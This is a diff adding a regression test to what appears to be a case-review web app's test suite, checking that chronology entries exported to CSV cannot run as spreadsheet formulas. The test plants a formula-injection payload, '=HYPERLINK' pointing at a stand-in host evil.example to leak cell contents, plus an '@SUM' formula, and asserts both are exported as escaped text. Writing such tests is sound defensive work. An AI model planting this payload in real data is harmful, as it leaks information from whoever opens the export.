@@ -4,7 +4,9 @@ offered, the participant's dashboard and action tracker, its agencies' pages, an
 Bexley's people, a revoked grant (also for a page already open), an invitation meant for
 another partnership — a 404, never the data."""
 
+import csv
 import datetime
+import io
 
 import pytest
 
@@ -208,6 +210,33 @@ def test_a_participant_adds_a_chronology_entry_inline_through_the_door(joint):
     assert "Met Police (Lewisham)" in chronology
     csv = b"".join(lena.get(joint_path(joint, "chronology.csv")).streaming_content).decode()
     assert "Lewisham officers visited the flat" in csv
+
+
+def test_a_formula_planted_by_a_participant_is_text_in_the_leads_csv(joint):
+    """Issue 10, part 4: a participant's entry starting ``=HYPERLINK(`` ran as a formula when
+    the lead's business manager opened the chronology export in a spreadsheet."""
+    joint.joined()
+    lena = client_of(joint, "lena")
+    lena.get(joint_path(joint, "chronology/"))
+    police = mirror(joint, joint.world.met_lewisham)
+    planted = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the file")'
+    response = lena.post(
+        joint_path(joint, "chronology/entries/"),
+        {
+            "entry-occurred_on": (today() - datetime.timedelta(days=20)).isoformat(),
+            "entry-agency": str(police.uuid),
+            "entry-what_happened": planted,
+            "entry-who": "@SUM(1+1)",
+        },
+        HTTP_HX_REQUEST="true",
+    )
+    assert response.status_code == 200
+    lead = client_of(joint, "alice", joint.croydon)
+    exported = lead.get(f"/reviews/{joint.review.reference}/chronology.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(exported.streaming_content).decode())))
+    entry = next(row for row in rows[1:] if "HYPERLINK" in row[3])
+    assert entry[3] == "'" + planted
+    assert entry[4] == "'@SUM(1+1)"
 
 
 def test_a_revoked_grant_closes_a_page_already_open(joint):
